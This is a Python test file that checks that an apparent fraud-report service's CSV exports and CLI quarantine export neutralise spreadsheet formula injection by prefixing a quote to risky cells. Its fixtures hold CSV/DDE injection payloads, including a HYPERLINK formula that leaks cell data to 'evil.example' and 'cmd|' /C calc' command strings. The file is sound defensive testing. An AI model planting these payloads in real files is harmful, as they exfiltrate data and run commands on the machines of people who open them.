"""Every CSV export neutralises cells a spreadsheet would run as formulas (OWASP rule)."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest
from sqlalchemy import update

from crossline.config import Settings
from crossline.csvsafe import FORMULA_STARTS, csv_text, neutralise
from crossline.store.schema import quarantine, reports
from support import testdb
from support.api_env import Env, build_env

# (cell, written as): text that starts with a trigger gets a quote; the rest is left alone.
CELLS = [
    (
        '=HYPERLINK("http://x.example/?"&A1,"refund")',
        '\'=HYPERLINK("http://x.example/?"&A1,"refund")',
    ),
    ("+1 202 555 0143", "'+1 202 555 0143"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("\uff1d1+1", "'\uff1d1+1"),
    ("refund desk", "refund desk"),
    ("a=b", "a=b"),
    ("", ""),
    (-12.5, -12.5),
    (None, None),
]


@pytest.mark.parametrize(("cell", "expected"), CELLS, ids=[repr(c)[:24] for c, _ in CELLS])
def test_neutralise(cell: object, expected: object) -> None:
    assert neutralise(cell) == expected


def test_csv_text_neutralises_every_cell_and_header() -> None:
    text = csv_text([{"=h": "@x", "b": "-y", "c": 3}], ["=h", "b", "c"])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["'=h", "b", "c"], ["'@x", "'-y", "3"]]


# -- every export route ---------------------------------------------------------------------

NARRATIVE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for refund")'
SOURCE_REF = "@SUM(1+1)*cmd|' /C calc'!A0"
RAW = "+cmd|' /C notepad'!A0,\"-2+3\",\t=1"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Env]:
    """A node whose complaints and quarantined rows carry formula payloads."""
    tmp = tmp_path_factory.mktemp("hostile")
    settings = Settings(home=tmp / "home", database_url=testdb.database_url(tmp))
    for env in build_env(settings):
        with env.node.store.transaction() as conn:
            conn.execute(
                update(reports)
                .where(reports.c.id == env.ids["us-1"])
                .values(text=NARRATIVE, source_ref=SOURCE_REF, victim_state="-TX")
            )
            conn.execute(
                quarantine.insert().values(
                    id="00000000-0000-5000-8000-00000000beef",
                    import_id="import-seed",
                    file="=evil.csv",
                    file_sha256="0" * 64,
                    format="ftc_dnc",
                    line=7,
                    field="@field",
                    reason="-bad date",
                    raw=RAW,
                    created_at=datetime(2024, 3, 1, tzinfo=UTC),
                )
            )
        yield env
    testdb.release(settings.database_url)


def csv_routes(env: Env) -> set[str]:
    """Every route that can answer text/csv, from the OpenAPI document."""
    out = set()
    for path, ops in env.app.openapi()["paths"].items():
        for op in ops.values():
            content = op.get("responses", {}).get("200", {}).get("content", {})
            if "text/csv" in content:
                out.add(path)
    return out


# path -> (query strings, the planted payload each export must carry, neutralised)
EXPORTS: dict[str, list[tuple[str, str]]] = {
    "/api/v1/campaigns/{campaign_id}/export": [
        ("format=csv&what=reports", SOURCE_REF),
        ("format=csv&what=indicators", "+12025550143"),
    ],
    "/api/v1/quarantine/export": [("format=csv", RAW)],
    "/api/v1/exports/{table}": [
        ("table=search&format=csv&q=fraudster@okaxis", SOURCE_REF),
        ("table=campaign-reports&format=csv&campaign={campaign_id}", SOURCE_REF),
        ("table=quarantine&format=csv", RAW),
    ],
    "/api/v1/lookup/bulk": [("format=csv", NARRATIVE)],  # POSTed: the values themselves
}


def test_the_table_names_every_csv_route(hostile: Env) -> None:
    assert csv_routes(hostile) == set(EXPORTS)


@pytest.mark.parametrize(
    ("path", "query", "payload"),
    [(p, q, v) for p, cases in EXPORTS.items() for q, v in cases],
    ids=[f"{p.rsplit('/', 2)[-2]}-{q}" for p, cases in EXPORTS.items() for q, _ in cases],
)
def test_every_csv_export_is_neutralised(hostile: Env, path: str, query: str, payload: str) -> None:
    if "{table}" in path:
        table, _sep, query = query.partition("&")
        path = path.replace("{table}", table.split("=")[1])
    url = (path + "?" + query).replace("{campaign_id}", hostile.ids["cross_border"])
    if path.endswith("/bulk"):
        r = hostile.client.post(
            url, json={"values": [payload, "fraudster@okaxis"]}, headers=hostile.as_("admin")
        )
    else:
        r = hostile.get("admin", url)
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("text/csv")
    cells = [c for row in csv.reader(io.StringIO(r.text)) for c in row]
    assert "'" + payload in cells  # the payload went out, as text
    bad = [c for c in cells if c and c[0] in FORMULA_STARTS]
    assert bad == []


def test_cli_quarantine_export_is_neutralised(hostile: Env, tmp_path: Path) -> None:
    from click.testing import CliRunner

    from crossline.cli import cli

    settings = hostile.node.settings
    out = tmp_path / "q.csv"
    result = CliRunner().invoke(
        cli,
        ["--home", str(settings.home), "--db", settings.database_url]
        + ["quarantine", "export", "--out", str(out)],
    )
    assert result.exit_code == 0, result.output
    cells = [c for row in csv.reader(io.StringIO(out.read_text())) for c in row]
    assert "'" + RAW in cells
    assert [c for c in cells if c and c[0] in FORMULA_STARTS] == []
